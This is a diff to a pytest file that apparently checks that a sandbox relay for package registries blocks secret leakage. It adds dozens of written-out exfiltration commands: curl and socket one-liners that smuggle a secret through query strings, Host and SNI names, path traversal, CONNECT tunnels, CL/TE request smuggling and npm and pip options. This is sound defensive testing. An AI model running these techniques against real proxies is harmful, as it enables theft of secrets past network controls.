@@ -282,7 +282,55 @@ WAYS = {
                           "s.connect('/run/lockgate-registries/socket'); "
                           "s.send(sys.stdin.buffer.read()); print(s.recv(99))\"",
     "the relay's folder": "echo {secret} > /run/lockgate-registries/authority.pem",
+    "a query": "curl -sS -m 5 '{base}/npm/odd?a={secret}'",
+    "a fragment that is sent": "curl -sS -m 5 --request-target '/npm/odd#{secret}' {base}/",
+    "a method": "curl -sS -m 5 -X {secret} {base}/npm/odd",
+    "an old method": "curl -sS -m 5 -X DELETE {base}/npm/odd/{secret}",
+    "a path with dots": "curl -sS -m 5 --path-as-is {base}/npm/odd/../{secret}",
+    "an encoded path": "curl -sS -m 5 {base}/npm/odd%2f..%2f{secret}",
+    "another case of a name": "curl -sS -m 5 {base}/npm/ODD-{secret}",
+    "a whole address as a target": "curl -sS -m 5 --request-target '{base}/simple/{secret}/' {base}/",
+    "another host behind the tunnel": "curl -sS -m 5 -H 'Host: {secret}.example' {base}/npm/odd",
+    "a name for TLS": "python3 -c \"{tunnel}; c.wrap_socket(s, server_hostname='{secret}.example').sendall({get})\"",
+    "no TLS in the tunnel": "python3 -c \"{tunnel}; s.sendall(b'GET /{secret} HTTP/1.1\\r\\n\\r\\n'); s.recv(99)\"",
+    "two requests as one": "python3 -c \"{tunnel}; t = c.wrap_socket(s, server_hostname='localhost'); "
+                           "t.sendall({get} + b'GET /{secret} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); t.recv(999)\"",
+    "two lengths": "python3 -c \"{tunnel}; t = c.wrap_socket(s, server_hostname='localhost'); "
+                   "t.sendall({get}[:-2] + b'Content-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
+                   "GET /{secret} HTTP/1.1\\r\\n\\r\\n'); t.recv(999)\"",
+    "a folded header": "python3 -c \"{tunnel}; t = c.wrap_socket(s, server_hostname='localhost'); "
+                       "t.sendall({get}[:-2] + b'Accept: text/html,\\r\\n {secret}\\r\\n\\r\\n'); t.recv(999)\"",
+    "a type that is wished for": "curl -sS -m 5 -H 'Accept: application/{secret}' {base}/npm/odd",
+    "a part of a file": "curl -sS -m 5 -H 'Range: bytes={secret}' -o part {base}/npm/odd/-/odd-1.0.0.tgz",
+    "what it has already": "curl -sS -m 5 -H 'If-None-Match: {secret}' {base}/npm/odd",
+    "a language": "curl -sS -m 5 -A {secret} -H 'Accept-Language: {secret}' -e {secret} {base}/npm/odd",
+    "a web socket": "curl -sS -m 5 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Key: {secret}' "
+                    "{base}/npm/odd",
+    "HTTP/2 by agreement": "curl -sS -m 5 --http2 -H 'X-A: {secret}' {base}/npm/odd",
+    "what is expected": "curl -sS -m 5 -H 'Expect: 100-continue' -d {secret} {base}/npm/odd",
+    "a tunnel in the tunnel": "curl -sS -m 5 -X CONNECT --request-target {secret}.example:443 {base}/",
+    "a name in the tunnel": "curl -sS -m 5 https://{secret}.localhost:{out}/",
+    "a person at the proxy": "curl -sS -m 5 -U {secret}:x {base}/npm/odd",
+    "a version as a file": "curl -sS -m 5 {base}/npm/odd/-/odd-{secret}.tgz",
+    "a version's page": "curl -sS -m 5 {base}/npm/odd/{secret}",
+    "a signature beside a file": "curl -sS -m 5 {base}/files/shoplib-1.0-py3-none-any.whl.{secret}",
+    "a scope of npm": "npm view @{secret}/odd",
+    "a tag of npm": "npm install --no-save odd@{secret}",
+    "a package by npx": "npx -y {secret}",
+    "a token of the person's": "npm token list --registry={base}/npm/{secret}",
+    "uv": "UV_DEFAULT_INDEX=https://localhost:{out}/simple uv pip install --system {secret}",
+    "an index beside the first": ".venv/bin/python -m pip download --extra-index-url {base}/{secret} odd-{secret}",
+    "links beside the index": ".venv/bin/python -m pip download --no-index -f {base}/{secret}/ shoplib",
+    "a proxy of pip": ".venv/bin/python -m pip download --proxy http://{secret}@127.0.0.1:{out} shoplib",
 }  # fmt: skip
+RAW = {
+    "tunnel": "import os, re, socket, ssl; p = re.search(':([0-9]+)$', os.environ['HTTPS_PROXY'])[1]; "
+              "s = socket.create_connection(('127.0.0.1', int(p)), 5); s.settimeout(5); "
+              "s.sendall(b'CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n'); s.recv(999); "
+              "c = ssl._create_unverified_context()",
+    "get": "b'GET /npm/odd HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n'",
+}  # fmt: skip
+"""By words of :data:`WAYS`: a connection to the index by the relay, and a request that passes."""
 
 
 @pytest.fixture(scope="module")
@@ -300,16 +348,34 @@ def inside(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Session, 
     outside.end()
 
 
+def _spelt(way: str, session: Session, outside: Outside) -> str:
+    raw = {key: text.format(port=session.index.port) for key, text in RAW.items()}
+    return way.format(out=outside.port, base=session.index.base, secret=SECRET, **raw)
+
+
+def test_a_request_by_hand_passes(inside: tuple[Session, str, Outside]) -> None:
+    """The control of :data:`RAW`."""
+    session, text, outside = inside
+    by_hand = (
+        "python3 -c \"{tunnel}; t = c.wrap_socket(s, server_hostname='localhost'); t.sendall({get}); t.recv(999)\""
+    )
+    session.machine.file("attack.sh", f"#!/bin/bash\n{_spelt(by_hand, session, outside)}\n").chmod(0o755)
+    session.index.seen.clear()
+    done = session.run_text(text)
+    assert [seen.split()[1] for seen in session.index.seen] == ["/npm/odd"], done
+
+
 @pytest.mark.parametrize("name", WAYS)
 def test_nothing_is_carried_out(inside: tuple[Session, str, Outside], name: str) -> None:
     session, text, outside = inside
     machine, index = session.machine, session.index
-    way = WAYS[name].format(out=outside.port, base=index.base, secret=SECRET)
+    way = _spelt(WAYS[name], session, outside)
     control = f"curl -sS {index.base}/simple/needed-or-not/; curl -sS {index.base}/npm/odd"
     machine.file("attack.sh", f"#!/bin/bash\n{control}\n{way}\n").chmod(0o755)
     index.seen.clear()
     done = session.run_text(text)
-    machine.outside("git checkout -q . && rm -f .npmrc r.txt .venv/pip.conf")
+    machine.outside("git checkout -q . && rm -f .npmrc r.txt part .venv/pip.conf")
+    print(done.stdout, done.stderr)
     # The way to the index was open.
     assert [seen for seen in index.seen if seen.startswith("GET /npm/odd ")], done
     assert not [seen for seen in index.seen if SECRET in seen]
